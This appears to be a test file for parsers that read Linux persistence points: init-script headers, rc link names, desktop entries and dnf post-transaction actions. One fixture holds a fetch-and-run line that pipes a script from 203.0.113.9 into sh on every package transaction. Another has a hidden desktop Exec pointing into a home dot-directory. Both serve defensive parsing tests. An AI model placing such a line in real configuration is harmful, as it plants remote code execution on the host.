import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { parseIniFile } from '../../src/host/ini-file.js';
import { parseLsbHeader, parseRcLinkName } from '../../src/host/init-script.js';
import { parsePostTransactionActions } from '../../src/host/post-transaction-action.js';

test('LSB header of an init script', () => {
  const text = '#!/bin/sh\n### BEGIN INIT INFO\n# Provides:          sshd-helper\n# Required-Start:    $remote_fs $syslog\n# Default-Start:     2 3 4 5\n# Default-Stop:      0 1 6\n# Short-Description: helper\n### END INIT INFO\n';
  assert.deepEqual(parseLsbHeader(text), { provides: ['sshd-helper'], requiredStart: ['$remote_fs', '$syslog'], defaultStart: ['2', '3', '4', '5'], defaultStop: ['0', '1', '6'], shortDescription: 'helper' });
  assert.equal(parseLsbHeader('#!/bin/sh\necho hi\n'), null);
});

test('rc link names', () => {
  assert.deepEqual(parseRcLinkName('S01ssh'), { action: 'start', order: 1, service: 'ssh' });
  assert.deepEqual(parseRcLinkName('K99x'), { action: 'kill', order: 99, service: 'x' });
  assert.equal(parseRcLinkName('README'), null);
  assert.equal(parseRcLinkName('S1x'), null);
});

test('desktop entries: groups, last value wins, line numbers', () => {
  const { groups, badLines } = parseIniFile('# c\n[Desktop Entry]\nType=Application\nExec=/usr/bin/true\nExec=/home/u/.x/run --quiet\nHidden = true\nnonsense\n[Desktop Action x]\nExec=/other\n');
  assert.deepEqual(groups['Desktop Entry']!.Exec, { value: '/home/u/.x/run --quiet', line: 5 });
  assert.equal(groups['Desktop Entry']!.Hidden!.value, 'true');
  assert.equal(groups['Desktop Action x']!.Exec!.value, '/other');
  assert.deepEqual(badLines, [7]);
});

test('dnf post-transaction actions', () => {
  const { actions, badLines } = parsePostTransactionActions('# comment\n*:any:/usr/bin/curl -s http://203.0.113.9/p | sh\nopenssh-server:install:/bin/touch /tmp/x:y\nbroken\n');
  assert.deepEqual(actions.map((a) => [a.line, a.pattern, a.state, a.command]), [
    [2, '*', 'any', '/usr/bin/curl -s http://203.0.113.9/p | sh'],
    [3, 'openssh-server', 'install', '/bin/touch /tmp/x:y'],
  ]);
  assert.deepEqual(badLines, [4]);
});

test('property: these parsers take any text without throwing', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 300 }), (t) => {
      parseLsbHeader(`### BEGIN INIT INFO\n${t}`);
      parseIniFile(t);
      parsePostTransactionActions(t);
      parseRcLinkName(t);
    }),
    { numRuns: 300 },
  );
});
